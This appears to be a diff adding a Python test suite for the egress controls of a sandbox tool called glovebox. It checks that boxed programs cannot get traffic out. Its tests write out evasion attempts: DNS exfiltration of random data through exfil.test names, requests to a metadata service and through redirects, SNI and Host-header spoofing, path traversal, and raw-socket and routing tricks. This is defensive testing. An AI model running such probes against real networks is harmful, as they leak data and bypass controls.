@@ -1,0 +1,478 @@
+#!/usr/bin/env python3
+"""What a box reaches of the world, and what not, with real programs in real boxes.
+
+usage: egress_test.py root|user [WORD...]    (WORD: only cases with it in their name)
+
+The host and the world behind it are egress_world.py, which takes root; the word says who glovebox
+runs as. Whether something got out is asked of the world: of its servers, and of the cable.
+"""
+import json
+import os
+import pathlib
+import shutil
+import subprocess
+import sys
+import tempfile
+import time
+import traceback
+
+sys.path.insert(0, str(pathlib.Path(__file__).parent))
+import egress_world  # noqa: E402
+from egress_world import A, A6, B, HOST, INTERNAL, METADATA, World  # noqa: E402
+from run_harness import AS_USER, USER_ID, reachable_program  # noqa: E402
+from worker_harness import PROGRAM, remove_folders  # noqa: E402
+
+CASES = []
+RULES = """
+[[profile.net.egress]]
+host = "a.test"
+port = 443
+whole_host = true
+why = "the test"
+[[profile.net.egress]]
+host = "*.a.test"
+port = "7000-7002"
+mode = "raw"
+whole_host = true
+why = "the test"
+[[profile.net.egress]]
+host = "a.test"
+port = 80
+allow = ["GET /open/**", "POST /open/**", "GET /redirect/**"]
+"""
+RAW = """
+[[profile.net.egress]]
+host = "{host}"
+port = {port}
+mode = "raw"
+whole_host = true
+why = "the test"
+{more}
+"""
+
+
+def policy(rules=RULES, background="kill", more=""):
+    return f"""glovebox = 1
+name = "egress-test"
+[[bind]]
+tools = {{ "*" = "net" }}
+[profile.net]
+why = "the test"
+background = "{background}"
+{more}
+mount = [ {{ at = "@workspace", mode = "rw", exec = true }}, {{ at = "@tmp", mode = "tmp", exec = true }} ]
+{rules}"""
+
+
+def raw(host, port, more=""):
+    return RAW.format(host=host, port=port, more=more)
+
+
+def case(function):
+    CASES.append(function)
+    return function
+
+
+class Box:
+    """`glovebox exec` with one policy, in one workspace; what it did and what is on record of it."""
+
+    def __init__(self, world, user, text):
+        self.world, self.user = world, user
+        self.folder = pathlib.Path(tempfile.mkdtemp(prefix="glovebox-test-egress-"))
+        self.folder.chmod(0o755)
+        self.work, self.state = self.folder / "work", self.folder / "state"
+        self.work.mkdir()
+        self.policy = self.folder / "net.toml"
+        self.policy.write_text(text)
+        self.policy.chmod(0o644)
+        shutil.copy(world.authority, self.work / "ca.pem")
+        if user == "user":
+            for path in (self.folder, self.work, self.policy):
+                os.chown(path, USER_ID, USER_ID)
+        self.program = [*AS_USER, reachable_program()] if user == "user" else [PROGRAM]
+
+    def start(self, *words, **options):
+        return subprocess.Popen(
+            [*self.program, "exec", "--policy", str(self.policy), "--state", str(self.state), "--workdir",
+             str(self.work), "--", *words], stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
+            stderr=subprocess.PIPE, text=True, **options)
+
+    def run(self, *words, seconds=60):
+        process = self.start(*words)
+        try:
+            self.out, self.err = process.communicate(timeout=seconds)
+        except subprocess.TimeoutExpired:
+            process.kill()
+            self.out, self.err = process.communicate()
+            raise AssertionError(f"{words} hangs: {self.out[-500:]} {self.err[-500:]}") from None
+        self.code = process.returncode
+        return self
+
+    def shell(self, script, **options):
+        return self.run("/bin/bash", "-c", script, **options)
+
+    def expect(self, code=0, out=None, err=None):
+        told = f"exit {self.code}\nout: {self.out[-2000:]}\nerr: {self.err[-2000:]}"
+        assert code is None or self.code == code, f"wanted exit {code}\n{told}"
+        assert out is None or out in self.out, f"{out!r} is not in stdout\n{told}"
+        assert err is None or err in self.err, f"{err!r} is not in stderr\n{told}"
+        return self
+
+    def records(self, kind):
+        return [record for line in sorted((self.state / "audit").glob("log*.jsonl"))
+                for record in map(json.loads, line.read_text().splitlines()) if record["k"] == kind]
+
+    def denied(self, **wanted):
+        """One record of what was refused, with these members; `why` may be a part."""
+        return self.one("net.deny", wanted)
+
+    def opened(self, **wanted):
+        return self.one("net.open", wanted)
+
+    def one(self, kind, wanted):
+        records = self.records(kind)
+        for record in records:
+            if all(str(value) in str(record.get(key, "")) if key == "why" else record.get(key) == value
+                   for key, value in wanted.items()):
+                return record
+        raise AssertionError(f"no {kind} with {wanted} among {json.dumps(records, indent=1)}\n{self.err}")
+
+    def verified(self):
+        done = subprocess.run([PROGRAM, "audit", "verify", str(self.state / "audit")], capture_output=True,
+                              text=True)
+        assert done.returncode == 0, done.stdout + done.stderr
+
+    def remove(self):
+        shutil.rmtree(self.folder, ignore_errors=True)
+
+
+class Given:
+    """What a case gets: the world, and boxes that go with it."""
+
+    def __init__(self, world, user):
+        self.world, self.user, self.boxes = world, user, []
+
+    def box(self, text=None):
+        box = Box(self.world, self.user, text or policy())
+        self.boxes.append(box)
+        return box
+
+    def nothing_left(self, *but):
+        """Of all that left the host since the last look, nothing but this; DNS stays on the host."""
+        packets = {(protocol, to, port) for protocol, to, port in self.world.packets()} - set(but)
+        assert not packets, f"got out: {packets}"
+
+    def end(self):
+        for box in self.boxes:
+            box.remove()
+
+
+def tcp(address, port):
+    return ("tcp", address, port)
+
+
+# --- what is refused
+
+@case
+def no_rule_no_network(given):
+    box = given.box(policy(rules=""))
+    box.shell("getent hosts a.test; exec 3<>/dev/tcp/93.184.216.34/443").expect(None, err="unreachable")
+    given.nothing_left()
+
+
+@case
+def another_name_does_not_exist(given):
+    box = given.box().shell("curl -sS -m 9 https://b.test/ https://evil.a.test.b.test/").expect(6)
+    box.denied(host="b.test", l7="dns", dec="deny", why="no egress rule names this host and port")
+    assert box.denied(host="b.test")["tu"] == box.records("tool.intent")[0]["tu"]
+    given.nothing_left()
+    assert not given.world.names.asked
+
+
+@case
+def data_in_a_name_stays_here(given):
+    box = given.box().shell("for i in $(seq 50); do getent hosts $(head -c 20 /dev/urandom | od -An -tx1 | "
+                            "tr -d ' \\n').exfil.test; done; dig +tries=1 +time=2 TXT x.exfil.test @8.8.8.8; "
+                            "dig +tcp +tries=1 +time=2 y.exfil.test @1.1.1.1; "
+                            "dig +tries=1 +time=2 TXT $(hostname).a.test")
+    box.expect(out="status: NXDOMAIN").expect(out="status: REFUSED")
+    given.nothing_left()
+    assert not given.world.names.asked
+
+
+@case
+def an_address_without_a_rule_is_reset(given):
+    box = given.box().shell(f"for to in {A}:80 {A}:443 [{A6}]:443 1572395042:80 0135.0270.0330.042:443; do "
+                            "curl -sS -m 9 http://$to/open/x; done; true")
+    box.denied(host=A, port=443, l7="tcp", why="no egress rule names this host and port")
+    box.denied(host=A6, port=443)
+    box.denied(host=A, port=80)
+    assert {record["host"] for record in box.records("net.deny")} == {A, A6}
+    given.nothing_left()
+
+
+@case
+def a_port_without_a_rule_is_refused(given):
+    box = given.box().shell("curl -sS -m 9 telnet://a.test:22 < /dev/null; curl -sS -m 9 http://a.test:8080/").expect(
+        None, err="refused")
+    box.denied(host="a.test", port=22)
+    given.nothing_left()
+
+
+@case
+def nothing_but_tcp_and_dns(given):
+    script = """
+import socket
+def tried(what, act):
+    try:
+        act()
+        print("through", what)
+    except OSError as error:
+        print("refused", what, error.errno)
+for port in (443, 123, 4433):
+    def udp():
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        s.settimeout(1)
+        s.connect(("93.184.216.34", port))
+        s.send(b"x")
+        s.recv(9)
+    tried(f"udp {port}", udp)
+for name, family, kind, protocol in (("raw", 2, 3, 255), ("icmp", 2, 3, 1), ("ping", 2, 2, 1), ("sctp", 2, 1, 132),
+                                     ("mptcp", 2, 1, 262), ("udplite", 2, 2, 136), ("packet", 17, 3, 3),
+                                     ("vsock", 40, 1, 0), ("dccp", 2, 6, 33), ("gre", 2, 3, 47)):
+    tried(name, lambda: socket.socket(family, kind, protocol).sendto(b"x" * 16, ("93.184.216.34", 443)))
+s = socket.socket()
+tried("bindtodevice", lambda: (s.setsockopt(1, 25, b"h0\\0"), s.connect(("93.184.216.34", 443)), s.send(b"x"), s.recv(1)))
+"""
+    box = given.box()
+    (box.work / "try.py").write_text(script)
+    box.run("/usr/bin/python3", "/workspace/try.py").expect()
+    assert "through" not in box.out, box.out
+    assert box.out.count("refused") == 14, box.out
+    box.shell("ip route del local default dev lo table local; ip route add default via 127.0.0.1; "
+              "ip link add v0 type dummy; ip addr add 10.0.0.9/8 dev lo; ip link set lo down; true")
+    assert box.err.count("not permitted") == 5, box.err
+    given.nothing_left()
+
+
+@case
+def another_name_in_tls_is_refused(given):
+    box = given.box().shell(
+        "for name in '-servername b.test' '-servername www.a.test' -noservername '-servername 93.184.216.34'; do "
+        "openssl s_client -connect a.test:443 $name -brief < /dev/null; done; "
+        "echo plain | timeout 5 openssl s_client -connect a.test:443 -servername a.test -CAfile /workspace/ca.pem "
+        "-verify_return_error -brief").expect(out="", err="CONNECTION ESTABLISHED")
+    assert box.err.count("ESTABLISHED") == 1, box.err
+    for name in ("b.test", "www.a.test"):
+        box.denied(host="a.test", l7="sni", rule="net.toml:11", why=f"TLS asks for {name}, which is not the name")
+    box.denied(host="a.test", l7="sni", why="TLS asks for no name")
+    assert given.world.came() == [(A, 443)]
+
+
+@case
+def what_is_no_tls_is_not_carried(given):
+    box = given.box().shell("printf 'GET / HTTP/1.1\\r\\nHost: a.test\\r\\n\\r\\n' | nc -w 5 a.test 443; "
+                            "printf 'SSH-2.0-x\\r\\n' | nc -w 5 a.test 443; true")
+    box.denied(host="a.test", l7="sni", why="mode sni: ")
+    given.nothing_left()
+
+
+@case
+def names_that_lead_inwards_are_refused(given):
+    names = ("internal", "metadata", "own", "loop", "mixed", "mapped")
+    box = given.box(policy("".join(raw(f"{name}.test", 80) for name in names)))
+    box.shell("".join(f"curl -sS -m 9 http://{name}.test/; " for name in names)).expect(None)
+    for name, address in (("internal", INTERNAL), ("metadata", METADATA), ("own", HOST), ("loop", "127.0.0.1"),
+                          ("mixed", INTERNAL), ("mapped", INTERNAL)):
+        assert address in box.denied(host=f"{name}.test", l7="raw")["why"]
+    given.nothing_left()
+
+
+@case
+def private_is_given_only_where_a_rule_says_so(given):
+    box = given.box(policy(raw("internal.test", 80, "private = true") + raw("metadata.test", 80, "private = true")))
+    box.shell("curl -sS -m 9 http://internal.test/yes; curl -sS -m 9 http://metadata.test/").expect(56, out="/yes")
+    box.denied(host="metadata.test", why="is a metadata service")
+    assert given.world.came() == [(INTERNAL, 80)]
+
+
+@case
+def a_name_that_changes_is_judged_each_time(given):
+    given.world.names.turns["a.test"] = [[A], [A], ["127.0.0.1"]]
+    box = given.box(policy(raw("a.test", 80)))
+    box.shell("curl -sS -m 9 http://a.test/one > /dev/null; for i in 1 2 3; do curl -sS -m 9 http://a.test/two; done; true")
+    box.opened(host="a.test", addr=A)
+    box.denied(host="a.test", why="127.0.0.1 is not a public address")
+    del given.world.names.turns["a.test"]
+    assert set(given.world.came()) == {(A, 80)}
+
+
+@case
+def a_redirect_is_a_new_decision(given):
+    box = given.box().shell(f"curl -sS -m 9 -L http://a.test/redirect/http://{METADATA}/latest; "
+                            "curl -sS -m 9 -L http://a.test/redirect/http://b.test/; true")
+    box.denied(host=METADATA)
+    box.denied(host="b.test")
+    assert set(given.world.came()) == {(A, 80)}
+
+
+@case
+def requests_are_decided_one_by_one(given):
+    box = given.box().shell("""
+ask() { curl -sS -m 9 -o /dev/null -w '%{http_code} ' "$@"; }
+ask http://a.test/open/x; ask http://a.test/closed; ask -X DELETE http://a.test/open/x
+ask -H 'Host: b.test' http://a.test/open/x; ask --path-as-is http://a.test/open/../closed
+ask http://a.test/open/%2e%2e/closed; ask http://a.test/open/a%2fb; ask -X TRACE http://a.test/open/x
+ask -d data http://a.test/open/x
+curl -sS -m 9 http://a.test/closed""")
+    box.expect(out="200 403 403 421 400 400 400 405 200 ").expect(out="denied by policy: ").expect(out="net.toml:")
+    box.denied(host="a.test", l7="http", meth="GET", path="/closed")
+    box.denied(host="a.test", l7="http", meth="DELETE", path="/open/x")
+    assert box.opened(meth="POST", path="/open/x", status=200, addr=A)["up"] > 0
+    asked = [json.loads(line) for line in given.world.lines("asked")]
+    assert {(method, host) for method, host, _ in asked} == {("GET", "a.test"), ("POST", "a.test")}, asked
+
+
+# --- what is allowed
+
+@case
+def tls_by_name_reaches_its_origin(given):
+    box = given.box().shell("curl -sS -m 20 --cacert /workspace/ca.pem https://a.test/hello; "
+                            "env -i HTTPS_PROXY=http://127.0.0.1:9 curl -sS -m 9 --cacert /workspace/ca.pem https://a.test/; "
+                            "echo $?").expect(out='"path": "/hello"').expect(out="7\n")
+    record = box.opened(host="a.test", addr=A, port=443, l7="sni", rule="net.toml:11", dec="allow")
+    assert record["up"] > 300 and record["down"] > 500, record
+    intent, result = box.records("tool.intent")[0], box.records("tool.result")[0]
+    assert record["tu"] == intent["tu"] and record["sid"] == intent["sid"] and record["pol"] == intent["pol"]
+    order = [entry["k"] for line in sorted((box.state / "audit").glob("log*.jsonl"))
+             for entry in map(json.loads, line.read_text().splitlines())]
+    assert order.index("tool.intent") < order.index("net.open") < order.index("tool.result"), order
+    assert result["exit"] == 0
+    box.verified()
+
+
+@case
+def any_protocol_by_name(given):
+    box = given.box().shell("exec 3<>/dev/tcp/www.a.test/7001; read -r line <&3; echo \"$line\"; "
+                            "printf 'ping\\n' >&3; read -r line <&3; echo \"$line\"")
+    box.expect(out="220 world ready").expect(out="ping\n")
+    assert box.opened(host="www.a.test", port=7001, l7="raw")["up"] == 5
+
+
+@case
+def ipv6_as_well(given):
+    box = given.box(policy(raw("six.test", 80) + raw("2606:4700:10::/48", 7000)))
+    box.shell(f"curl -sS -6 -m 9 http://six.test/six; curl -sS -4 -m 9 http://six.test/four; "
+              f"echo hello | nc -w 2 -N {A6} 7000").expect(out="/six").expect(out="/four").expect(out="hello")
+    assert set(given.world.came()) == {(A6, 80), (A6, 7000)}
+
+
+@case
+def a_program_that_knows_no_proxy_and_no_resolver(given):
+    box = given.box()
+    (box.work / "plain.c").write_text(r"""
+#include <arpa/inet.h>
+#include <stdio.h>
+#include <string.h>
+#include <sys/socket.h>
+#include <unistd.h>
+/* Asks a name server of its own choice, as static programs do. */
+int main(void) {
+  static const unsigned char question[] = "\0\7\1\0\0\1\0\0\0\0\0\0\3www\1a\4test\0\0\1\0\1";
+  struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(53)};
+  inet_pton(AF_INET, "9.9.9.9", &to.sin_addr);
+  int dns = socket(AF_INET, SOCK_DGRAM, 0);
+  sendto(dns, question, sizeof question - 1, 0, (struct sockaddr*)&to, sizeof to);
+  unsigned char answer[512];
+  ssize_t size = recv(dns, answer, sizeof answer, 0);
+  to.sin_port = htons(7001);
+  memcpy(&to.sin_addr, answer + size - 4, 4);
+  int tcp = socket(AF_INET, SOCK_STREAM, 0);
+  if (connect(tcp, (struct sockaddr*)&to, sizeof to) != 0) return 1;
+  char line[64] = {0};
+  if (read(tcp, line, sizeof line - 1) < 0) return 2;
+  printf("%s %s", inet_ntoa(to.sin_addr), line);
+  return 0;
+}
+""")
+    subprocess.run(["gcc", "-static", "-O1", "-o", str(box.work / "plain"), str(box.work / "plain.c")], check=True)
+    box.run("/workspace/plain").expect(out="198.18.").expect(out="220 world ready")
+    box.opened(host="www.a.test", port=7001)
+
+
+@case
+def a_big_transfer_is_whole(given):
+    box = given.box(policy(raw("a.test", 80)))
+    box.shell("curl -sS -m 50 http://a.test/bytes/200000000 | sha256sum; head -c 200000000 /dev/zero | tr '\\0' x | sha256sum")
+    sums = box.out.split()
+    assert sums[0] == sums[2], box.out + box.err
+    assert box.opened(host="a.test")["down"] > 200_000_000
+
+
+@case
+def the_box_keeps_its_own_loopback(given):
+    box = given.box().shell("""
+python3 -m http.server 8000 --bind 127.0.0.1 > /dev/null 2>&1 &
+for i in $(seq 50); do curl -sS -m 5 -o /dev/null http://127.0.0.1:8000/ 2> /dev/null && break; sleep 0.1; done
+curl -sS -m 5 http://localhost:8000/ca.pem | head -1
+curl -sS -m 5 https://localhost/ ; curl -sS -m 5 http://127.0.0.1:80/""")
+    box.expect(None, out="BEGIN CERTIFICATE")
+    given.nothing_left()
+
+
+@case
+def ten_thousand_names(given):
+    box = given.box(policy("""
+[[profile.net.egress]]
+host = "*.many.test"
+port = 443
+whole_host = true
+why = "the test"
+"""))
+    box.run("/usr/bin/python3", "-c", """
+import socket, struct
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5); s.connect(("198.18.0.1", 53))
+seen, slow = set(), 0
+import time
+for i in range(10000):
+    name = b"n%d" % i
+    question = struct.pack(">HHHHHH", i, 256, 1, 0, 0, 0) + bytes([len(name)]) + name + b"\\4many\\4test\\0\\0\\1\\0\\1"
+    while True:
+        s.send(question)
+        try:
+            answer = s.recv(512)
+            break
+        except TimeoutError:
+            slow += 1
+    seen.add(answer[-4:])
+print(len(seen), "names")
+""", seconds=120).expect(out="10000 names")
+    given.nothing_left()
+
+
+def main():
+    user, words = sys.argv[1], sys.argv[2:]
+    egress_world.enter()
+    world, failed = World(), False
+    for function in CASES:
+        name = function.__name__.replace("_", " ")
+        if words and not any(word in name for word in words):
+            continue
+        given = Given(world, user)
+        world.forget()
+        try:
+            function(given)
+            print("ok", name, flush=True)
+        except Exception:
+            failed = True
+            print(traceback.format_exc().rstrip())
+            print("not ok", name, flush=True)
+        finally:
+            given.end()
+    world.end()
+    remove_folders()
+    return 1 if failed else 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
